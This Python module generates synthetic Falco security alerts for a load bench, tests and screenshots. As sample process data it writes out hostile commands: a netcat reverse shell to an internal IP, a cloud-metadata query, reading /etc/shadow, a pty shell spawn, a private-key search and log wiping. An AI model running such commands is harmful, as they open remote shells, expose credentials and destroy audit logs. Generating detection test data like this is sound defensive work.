"""Synthetic alerts shaped like the processor's (Falco JSON + uuid): for the load bench, tests and screenshots.

Rule frequencies are skewed the way real deployments are (a few noisy rules, a long tail), so the count cubes
and indexes are measured on realistic cardinalities rather than uniform noise.
"""

from __future__ import annotations

import hashlib
import random
from collections.abc import Iterator
from typing import Any

from outputs.ui.alert_row import format_time_ns

# (rule, priority, tags, message, file or None) after Falco's default rules.
RULES: list[tuple[str, str, list[str], str, str | None]] = [
    ("Terminal shell in container", "Notice", ["container", "shell", "mitre_execution", "T1059"],
     "A shell was spawned in a container with an attached terminal", None),
    ("Read sensitive file untrusted", "Warning", ["filesystem", "mitre_credential_access", "T1555"],
     "Sensitive file opened for reading by non-trusted program", "/etc/shadow"),
    ("Write below etc", "Error", ["filesystem", "mitre_persistence", "T1098"],
     "File below /etc opened for writing", "/etc/ld.so.preload"),
    ("Launch Suspicious Network Tool in Container", "Notice", ["container", "network", "mitre_discovery", "T1046"],
     "Network tool launched in container", None),
    ("Drop and execute new binary in container", "Critical", ["container", "mitre_persistence", "TA0003"],
     "Executing binary not part of base image", "/tmp/.x/kworker"),
    ("Contact K8S API Server From Container", "Notice", ["k8s", "container", "network", "mitre_discovery", "T1565"],
     "Unexpected connection to K8s API Server from container", None),
    ("Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
     ["container", "network", "process", "mitre_execution", "T1059"],
     "Redirect stdout/stdin to network connection", None),
    ("Search Private Keys or Passwords", "Warning", ["process", "mitre_credential_access", "T1552.001"],
     "Grep private keys or passwords activities found", None),
    ("Clear Log Activities", "Warning", ["filesystem", "mitre_defense_evasion", "NIST_800-53_AU-10", "T1070"],
     "Log files were tampered", "/var/log/auth.log"),
    ("Netcat Remote Code Execution in Container", "Warning", ["container", "network", "process", "mitre_execution", "T1059"],
     "Netcat runs inside container that allows remote code execution", None),
    ("PTRACE attached to process", "Warning", ["process", "mitre_privilege_escalation", "T1055.008"],
     "Detected ptrace PTRACE_ATTACH attempt", None),
    ("Fileless execution via memfd_create", "Critical", ["process", "mitre_defense_evasion", "T1620"],
     "Fileless execution via memfd_create", "memfd:x"),
    ("Create Symlink Over Sensitive Files", "Error", ["filesystem", "mitre_credential_access", "T1555"],
     "Symlinks created over sensitive files", "/etc/passwd"),
    ("Packet socket created in container", "Notice", ["container", "network", "mitre_credential_access", "T1557.002"],
     "Packet socket was created in a container", None),
    ("Linux Kernel Module Injection Detected", "Emergency", ["host", "process", "mitre_persistence", "TA0003"],
     "Linux Kernel Module injection from container detected", None),
    ("Debugfs Launched in Privileged Container", "Alert", ["container", "cis", "mitre_privilege_escalation", "T1611"],
     "Debugfs launched started in a privileged container", None),
    ("Disallowed K8s User", "Error", ["k8s"], "K8s Operation performed by user not in allowed list", None),
    ("Falco internal: syscall event drop", "Debug", ["internal"], "Falco internal: syscall event drop", None),
    ("Unexpected UDP Traffic", "Informational", ["network", "mitre_exfiltration", "TA0011"],
     "Unexpected UDP Traffic Seen", None),
]
COMMANDS = [("bash", "bash -i"), ("cat", "cat /etc/shadow"), ("nc", "nc -e /bin/sh 10.0.0.7 4444"),
            ("curl", "curl -s http://169.254.169.254/latest/meta-data/"), ("python3", "python3 -c import pty;pty.spawn('/bin/sh')"),
            ("grep", "grep -r BEGIN RSA PRIVATE /home"), ("kworker", "/tmp/.x/kworker --daemon"),
            ("nmap", "nmap -sS 10.0.0.0/24"), ("sh", "sh -c echo > /var/log/auth.log")]
PARENTS = [("bash", "bash"), ("sh", "sh -c /entrypoint.sh"), ("runc", "runc init"), ("sshd", "sshd: root@pts/0"),
           ("python3", "python3 app.py"), ("node", "node server.js")]
ANCESTORS = ["containerd-shim", "containerd", "systemd", "sshd", "init"]
IMAGES = ["nginx", "redis", "postgres", "registry.local/payments-api", "ghcr.io/acme/worker", "alpine", "busybox"]
NAMESPACES = ["default", "payments", "kube-system", "monitoring", "ci"]
SOURCES = [("syscall", 0.9), ("k8s_audit", 0.07), ("internal", 0.03)]


def _weights(n: int) -> list[float]:
    return [1.0 / (i + 1) ** 1.1 for i in range(n)]


def synthetic_alert(rng: random.Random, ts_ns: int, seq: int, hosts: int = 40,
                    hostile: str | None = None) -> dict[str, Any]:
    rule, priority, tags, message, fd = rng.choices(RULES, weights=_weights(len(RULES)))[0]
    host = f"node-{rng.choices(range(hosts), weights=_weights(hosts))[0]:02d}.prod.example"
    source = "k8s_audit" if rule == "Disallowed K8s User" else ("internal" if "internal" in tags else "syscall")
    pname, pcmd = rng.choice(PARENTS)
    name, cmd = rng.choice(COMMANDS)
    image = rng.choice(IMAGES)
    container = f"{image.rsplit('/', 1)[-1]}-{rng.randrange(16**4):04x}"
    if hostile:
        cmd, container = f"{cmd} {hostile}", hostile
    pid = rng.randrange(300, 4_000_000)
    fields: dict[str, Any] = {
        "evt.time": ts_ns, "evt.type": rng.choice(["execve", "openat", "connect", "ptrace"]),
        "proc.name": name, "proc.pid": pid, "proc.cmdline": cmd, "proc.exepath": f"/usr/bin/{name}",
        "proc.pname": pname, "proc.ppid": pid - rng.randrange(1, 300), "proc.pcmdline": pcmd,
        "proc.aname[2]": ANCESTORS[0], "proc.aname[3]": ANCESTORS[1], "proc.aname[4]": ANCESTORS[2],
        "user.name": rng.choice(["root", "www-data", "app", "postgres"]), "user.uid": rng.choice([0, 33, 1000]),
        "container.id": hashlib.sha1(container.encode()).hexdigest()[:12], "container.name": container,
        "container.image.repository": image, "k8s.ns.name": rng.choice(NAMESPACES),
        "k8s.pod.name": f"{image.rsplit('/', 1)[-1]}-{rng.randrange(16**5):05x}",
    }
    if fd:
        fields["fd.name"] = fd
    when = format_time_ns(ts_ns)
    pairs = (("file", fd), ("user", fields["user.name"]), ("command", cmd), ("parent", pname),
             ("container_name", container), ("image", image))
    detail = " ".join(f"{k}={v}" for k, v in pairs if v)
    uid = hashlib.sha256(f"{host}:{seq}:{rule}".encode()).hexdigest()[:32]
    return {"hostname": host, "output": f"{when}: {priority} {message} ({detail})", "output_fields": fields,
            "priority": priority, "rule": rule, "source": source, "tags": tags, "time": when,
            "uuid": f"{uid[:8]}-{uid[8:12]}-{uid[12:16]}-{uid[16:20]}-{uid[20:]}"}


def synthetic_alerts(n: int, start_ns: int, end_ns: int, seed: int = 1, hosts: int = 40) -> Iterator[dict[str, Any]]:
    """n alerts spread over [start, end), in time order, in bursts (incidents) over a steady background."""
    rng = random.Random(seed)
    span = end_ns - start_ns
    times = sorted(start_ns + int(span * (rng.random() ** 0.7 if rng.random() < 0.3 else rng.random()))
                   for _ in range(n))
    for seq, ts in enumerate(times):
        yield synthetic_alert(rng, ts, seq, hosts)
